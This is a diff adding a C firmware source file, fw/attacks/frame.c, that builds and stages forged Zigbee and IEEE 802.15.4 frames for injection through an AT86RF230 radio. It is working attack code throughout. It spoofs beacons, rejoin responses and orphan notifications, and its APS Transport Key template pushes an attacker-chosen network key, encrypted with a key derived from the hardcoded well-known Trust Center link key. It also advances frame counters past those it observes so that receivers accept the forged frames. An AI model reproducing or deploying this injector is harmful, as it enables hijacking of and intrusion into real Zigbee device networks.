@@ -0,0 +1,469 @@
+/*
+ * fw/attacks/frame.c - Precompiled frame templates and staging
+ *
+ * This program is free software; you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation; either version 2 of the License, or
+ * (at your option) any later version.
+ */
+
+/*
+ * Each frame we inject is laid out once, in flash, as it goes into the
+ * transceiver's frame buffer: PHR, then the PSDU without FCS. Only the fields
+ * that depend on the target are patched in at send time. Multi-byte fields
+ * are little-endian on the air, like on the AVR, so they are copied as is.
+ *
+ * APS commands are secured last, once all the fields they cover are in
+ * place: we fill in the frame counter, encrypt the payload with the key-
+ * transport key, and append the MIC. The key is derived from the Trust
+ * Center link key the first time we need it.
+ */
+
+#include <stdbool.h>
+#include <stdint.h>
+#include <string.h>
+
+#include <avr/pgmspace.h>
+
+#include "at86rf230.h"
+#include "spi.h"
+#include "attack.h"
+#include "ccm.h"
+#include "frame.h"
+
+
+#define	FRAME_PATCHES	10
+
+/* APS auxiliary header and CCM* (Zigbee 4.5.1) */
+
+#define	APS_AUX_OFFSET	2	/* after APS frame control and counter */
+#define	APS_AUX_SIZE	13	/* security control, counter, source */
+#define	APS_SEC_LEVEL	5	/* ENC-MIC-32 */
+#define	APS_MIC_SIZE	4
+#define	KEY_TRANSPORT	0x00	/* key hash input for the key-transport key */
+
+
+enum frame_field {
+	FIELD_END = 0,
+	FIELD_SEQ,		/* MAC sequence number */
+	FIELD_DST_PAN,		/* dst->pan */
+	FIELD_DST_SHORT,	/* dst->short_addr */
+	FIELD_SRC_PAN,		/* src->pan */
+	FIELD_SRC_SHORT,	/* src->short_addr */
+	FIELD_DST_LONG,		/* dst->long_addr */
+	FIELD_SRC_LONG,		/* src->long_addr */
+	FIELD_SRC_EPAN,		/* src->epan */
+	FIELD_UPDATE_ID,	/* src->beacon_update_id */
+	FIELD_CAP,		/* capability information of src */
+	FIELD_APS_SECURE,	/* APS header; must be the last patch */
+};
+
+struct frame_tmpl {
+	uint8_t command;	/* ZBEE_* */
+	uint8_t size;		/* bytes to upload */
+	struct {
+		uint8_t field;	/* enum frame_field */
+		uint8_t offset;
+	} patch[FRAME_PATCHES];
+	uint8_t bytes[FRAME_MAX];
+};
+
+
+static const struct frame_tmpl templates[] PROGMEM = {
+	{
+		.command = ZBEE_MAC_CMD_BEACON_RQ,
+		.size	= 1+BEACON_RQ_PKT_SIZE,
+		.patch	= {
+			{ FIELD_SEQ,		3 },
+		},
+		.bytes	= {
+			BEACON_RQ_PKT_SIZE+2,
+			0x03, 0x08,		/* FCF: command, no PAN ID comp. */
+			0xff,			/* seq */
+			0xff, 0xff,		/* dst PAN */
+			0xff, 0xff,		/* dst short */
+			0x07,			/* Beacon Request */
+		},
+	},
+	{
+		.command = ZBEE_MAC_CMD_BEACON_RP,
+		.size	= 1+BEACON_RP_PKT_SIZE,
+		.patch	= {
+			{ FIELD_SEQ,		3 },
+			{ FIELD_SRC_PAN,	4 },
+			{ FIELD_SRC_SHORT,	6 },
+			{ FIELD_SRC_EPAN,	15 },
+			{ FIELD_UPDATE_ID,	26 },
+		},
+		.bytes	= {
+			BEACON_RP_PKT_SIZE+2,
+			0x00, 0x80,		/* FCF: beacon, short src */
+			0xff,			/* BSN */
+			0, 0,			/* src PAN */
+			0, 0,			/* src short */
+			0xff, 0xcf,		/* superframe: coordinator, assoc. */
+			0x00,			/* GTS */
+			0x00,			/* pending addresses */
+			/* beacon payload */
+			0x00,			/* protocol ID */
+			0x22,			/* stack profile, protocol version */
+			0x84,			/* router and end device capacity */
+			0, 0, 0, 0, 0, 0, 0, 0,	/* EPAN ID */
+			0xff, 0xff, 0xff,	/* TX offset */
+			0,			/* NWK update ID */
+		},
+	},
+	{
+		.command = ZBEE_MAC_CMD_DATA_RQ,
+		.size	= 1+DATA_RQ_PKT_SIZE,
+		.patch	= {
+			{ FIELD_SEQ,		3 },
+			{ FIELD_DST_PAN,	4 },
+			{ FIELD_DST_SHORT,	6 },
+			{ FIELD_SRC_SHORT,	8 },
+		},
+		.bytes	= {
+			DATA_RQ_PKT_SIZE+2,
+			0x63, 0x88,		/* FCF: command, AR, PAN ID comp. */
+			0xff,			/* seq */
+			0, 0,			/* dst PAN */
+			0, 0,			/* dst short */
+			0, 0,			/* src short */
+			0x04,			/* Data Request */
+		},
+	},
+	{
+		.command = ZBEE_MAC_CMD_ORPHAN_NOTIF,
+		.size	= 1+16,
+		.patch	= {
+			{ FIELD_SEQ,		3 },
+			{ FIELD_SRC_LONG,	8 },
+		},
+		.bytes	= {
+			16+2,
+			0x43, 0xc8,		/* FCF: command, PAN ID comp., long src */
+			0xff,			/* seq */
+			0xff, 0xff,		/* dst PAN */
+			0xff, 0xff,		/* dst short */
+			0, 0, 0, 0, 0, 0, 0, 0,	/* src long */
+			0x06,			/* Orphan Notification */
+		},
+	},
+	{
+		.command = ZBEE_NWK_CMD_REJOIN_RQ,
+		.size	= 1+TC_REJOIN_REQ_PKT_SIZE,
+		.patch	= {
+			{ FIELD_SEQ,		3 },
+			{ FIELD_DST_PAN,	4 },
+			{ FIELD_DST_SHORT,	6 },
+			{ FIELD_SRC_SHORT,	8 },
+			{ FIELD_DST_SHORT,	12 },
+			{ FIELD_SRC_SHORT,	14 },
+			{ FIELD_SRC_LONG,	18 },
+			{ FIELD_CAP,		27 },
+		},
+		.bytes	= {
+			TC_REJOIN_REQ_PKT_SIZE+2,
+			/* MAC */
+			0x61, 0x88,		/* FCF: data, AR, PAN ID comp. */
+			0xff,			/* seq */
+			0, 0,			/* dst PAN */
+			0, 0,			/* dst short */
+			0, 0,			/* src short */
+			/* NWK */
+			0x09, 0x10,		/* FCF: command, ext. src */
+			0, 0,			/* dst short */
+			0, 0,			/* src short */
+			0x01,			/* radius */
+			0xff,			/* seq */
+			0, 0, 0, 0, 0, 0, 0, 0,	/* src long */
+			/* NWK payload */
+			0x06,			/* Rejoin Request */
+			0,			/* capability */
+		},
+	},
+	{
+		.command = ZBEE_NWK_CMD_REJOIN_RP,
+		.size	= 1+TC_REJOIN_RSP_PKT_SIZE,
+		.patch	= {
+			{ FIELD_SEQ,		3 },
+			{ FIELD_DST_PAN,	4 },
+			{ FIELD_DST_SHORT,	6 },
+			{ FIELD_SRC_SHORT,	8 },
+			{ FIELD_DST_SHORT,	12 },
+			{ FIELD_SRC_SHORT,	14 },
+			{ FIELD_DST_LONG,	18 },
+			{ FIELD_SRC_LONG,	26 },
+			{ FIELD_DST_SHORT,	35 },
+		},
+		.bytes	= {
+			TC_REJOIN_RSP_PKT_SIZE+2,
+			/* MAC */
+			0x61, 0x88,		/* FCF: data, AR, PAN ID comp. */
+			0xff,			/* seq */
+			0, 0,			/* dst PAN */
+			0, 0,			/* dst short */
+			0, 0,			/* src short */
+			/* NWK */
+			0x09, 0x18,		/* FCF: command, ext. dst and src */
+			0, 0,			/* dst short */
+			0, 0,			/* src short */
+			0x01,			/* radius */
+			0xff,			/* seq */
+			0, 0, 0, 0, 0, 0, 0, 0,	/* dst long */
+			0, 0, 0, 0, 0, 0, 0, 0,	/* src long */
+			/* NWK payload */
+			0x07,			/* Rejoin Response */
+			0, 0,			/* new short address */
+			0x00,			/* status: success */
+		},
+	},
+	{
+		.command = ZBEE_APS_CMD_KEY_TRANSPORT,
+		.size	= 1+KEY_TRANSPORT_PKT_SIZE,
+		.patch	= {
+			{ FIELD_SEQ,		3 },
+			{ FIELD_DST_PAN,	4 },
+			{ FIELD_DST_SHORT,	6 },
+			{ FIELD_SRC_SHORT,	8 },
+			{ FIELD_DST_SHORT,	12 },
+			{ FIELD_SRC_SHORT,	14 },
+			{ FIELD_SRC_LONG,	25 },
+			{ FIELD_DST_LONG,	52 },
+			{ FIELD_SRC_LONG,	60 },
+			{ FIELD_APS_SECURE,	18 },
+		},
+		.bytes	= {
+			KEY_TRANSPORT_PKT_SIZE+2,
+			/* MAC */
+			0x61, 0x88,		/* FCF: data, AR, PAN ID comp. */
+			0xff,			/* seq */
+			0, 0,			/* dst PAN */
+			0, 0,			/* dst short */
+			0, 0,			/* src short */
+			/* NWK */
+			0x08, 0x00,		/* FCF: data */
+			0, 0,			/* dst short */
+			0, 0,			/* src short */
+			0x1e,			/* radius */
+			0xff,			/* seq */
+			/* APS */
+			0x21,			/* FCF: command, security */
+			0xff,			/* counter */
+			0x30,			/* security: key-transport key,
+						   ext. nonce, level from NIB */
+			0, 0, 0, 0,		/* frame counter */
+			0, 0, 0, 0, 0, 0, 0, 0,	/* src long */
+			/* APS payload, encrypted */
+			0x05,			/* Transport Key */
+			0x01,			/* standard network key */
+			0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11,
+			0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11, 0x11,
+						/* network key */
+			0xff,			/* key sequence number */
+			0, 0, 0, 0, 0, 0, 0, 0,	/* dst long */
+			0, 0, 0, 0, 0, 0, 0, 0,	/* src long */
+			0, 0, 0, 0,		/* MIC */
+		},
+	},
+};
+
+
+#define	N_TEMPLATES	(sizeof(templates)/sizeof(*templates))
+
+
+/* ----- APS security ------------------------------------------------------ */
+
+
+/* "ZigBeeAlliance09", the well-known Trust Center link key */
+
+static const uint8_t tc_link_key[CCM_KEY_SIZE] PROGMEM = {
+	0x5a, 0x69, 0x67, 0x42, 0x65, 0x65, 0x41, 0x6c,
+	0x6c, 0x69, 0x61, 0x6e, 0x63, 0x65, 0x30, 0x39,
+};
+
+static uint8_t transport_key[CCM_KEY_SIZE];
+static bool transport_key_ok = 0;
+static uint32_t counter = 0;	/* next outgoing frame counter */
+
+
+void frame_counter_seen(uint32_t seen)
+{
+	if (seen >= counter && seen != 0xffffffff)
+		counter = seen+1;
+}
+
+
+/*
+ * buf+offset is the APS header, followed by the auxiliary header, the
+ * payload, and room for the MIC at the end of the frame. The receiver uses
+ * the security level of its NIB, which we put into the header that goes into
+ * the nonce and a, but not on the air.
+ */
+
+static void aps_secure(uint8_t *buf, uint8_t size, uint8_t offset)
+{
+	uint8_t a[APS_AUX_OFFSET+APS_AUX_SIZE];
+	uint8_t nonce[CCM_NONCE_SIZE];
+	uint8_t key[CCM_KEY_SIZE];
+	uint8_t *aux = buf+offset+APS_AUX_OFFSET;
+	uint8_t *m = buf+offset+sizeof(a);
+
+	if (!transport_key_ok) {
+		memcpy_P(key, tc_link_key, CCM_KEY_SIZE);
+		ccm_key_hash(key, KEY_TRANSPORT, transport_key);
+		transport_key_ok = 1;
+	}
+
+	memcpy(aux+1, &counter, 4);
+	counter++;
+
+	memcpy(a, buf+offset, sizeof(a));
+	a[APS_AUX_OFFSET] |= APS_SEC_LEVEL;
+
+	/* source address, frame counter, security control */
+	memcpy(nonce, aux+5, 8);
+	memcpy(nonce+8, aux+1, 4);
+	nonce[12] = a[APS_AUX_OFFSET];
+
+	ccm_encrypt(transport_key, nonce, a, sizeof(a), m,
+	    buf+size-APS_MIC_SIZE-m, buf+size-APS_MIC_SIZE, APS_MIC_SIZE);
+}
+
+
+/* ----- Building ---------------------------------------------------------- */
+
+
+static uint8_t capability(const ieee802154_addr *src)
+{
+	uint8_t cap = 0x80;	/* allocate address */
+
+	/* pretend to be a Full-Function Device unless we are a ZED */
+	if (src->device_type < 2)
+		cap |= 0x02;
+	if (src->rx_when_idle)
+		cap |= 0x08;
+	return cap;
+}
+
+
+uint8_t frame_build(uint8_t *buf, uint8_t command, uint8_t seq,
+    const ieee802154_addr *dst, const ieee802154_addr *src)
+{
+	const struct frame_tmpl *t;
+	uint8_t i, offset;
+
+	for (t = templates; t != templates+N_TEMPLATES; t++)
+		if (pgm_read_byte(&t->command) == command)
+			break;
+	if (t == templates+N_TEMPLATES)
+		return 0;
+
+	memcpy_P(buf, t->bytes, FRAME_MAX);
+	for (i = 0; i != FRAME_PATCHES; i++) {
+		offset = pgm_read_byte(&t->patch[i].offset);
+		switch (pgm_read_byte(&t->patch[i].field)) {
+		case FIELD_END:
+			return pgm_read_byte(&t->size);
+		case FIELD_SEQ:
+			buf[offset] = seq;
+			break;
+		case FIELD_DST_PAN:
+			memcpy(buf+offset, &dst->pan, 2);
+			break;
+		case FIELD_DST_SHORT:
+			memcpy(buf+offset, &dst->short_addr, 2);
+			break;
+		case FIELD_SRC_PAN:
+			memcpy(buf+offset, &src->pan, 2);
+			break;
+		case FIELD_SRC_SHORT:
+			memcpy(buf+offset, &src->short_addr, 2);
+			break;
+		case FIELD_DST_LONG:
+			memcpy(buf+offset, &dst->long_addr, 8);
+			break;
+		case FIELD_SRC_LONG:
+			memcpy(buf+offset, &src->long_addr, 8);
+			break;
+		case FIELD_SRC_EPAN:
+			memcpy(buf+offset, &src->epan, 8);
+			break;
+		case FIELD_UPDATE_ID:
+			buf[offset] = src->beacon_update_id;
+			break;
+		case FIELD_CAP:
+			buf[offset] = capability(src);
+			break;
+		case FIELD_APS_SECURE:
+			aps_secure(buf, pgm_read_byte(&t->size), offset);
+			break;
+		}
+	}
+	return pgm_read_byte(&t->size);
+}
+
+
+/* ----- Staging ---------------------------------------------------------- */
+
+
+static uint8_t staged[FRAME_MAX];
+static uint8_t staged_size;	/* 0 if we don't know the frame buffer */
+static uint8_t stale;		/* leading bytes overwritten, counting the PHR */
+
+
+void frame_stage(const uint8_t *buf, uint8_t size)
+{
+	uint8_t first = size, last = 0;
+	uint8_t i;
+
+	for (i = 0; i != size; i++)
+		if (i < stale || i >= staged_size || buf[i] != staged[i]) {
+			if (first == size)
+				first = i;
+			last = i;
+		}
+	if (first == size)
+		return;
+
+	spi_begin();
+	if (first) {
+		/* PHR is still valid; SRAM address 0 is the first PSDU byte */
+		spi_send(AT86RF230_SRAM_WRITE);
+		spi_send(first-1);
+	} else {
+		spi_send(AT86RF230_BUF_WRITE);
+	}
+	spi_send_block(buf+first, last-first+1);
+	spi_end();
+
+	memcpy(staged, buf, size);
+	staged_size = size;
+	stale = 0;
+}
+
+
+void frame_readback(uint8_t phr, const uint8_t *psdu, uint8_t n)
+{
+	uint8_t i;
+
+	/* reading back the frame we just sent doesn't change anything */
+	if (staged_size && staged[0] == phr && n < staged_size &&
+	    !memcmp(staged+1, psdu, n)) {
+		for (i = n+1; i != staged_size; i++)
+			if (spi_recv() != staged[i])
+				break;
+		if (i == staged_size)
+			return;
+	}
+	frame_overwritten(phr);
+}
+
+
+void frame_overwritten(uint8_t len)
+{
+	if (len >= MAX_PSDU)
+		stale = MAX_PSDU+1;
+	else if (len+1 > stale)
+		stale = len+1;
+}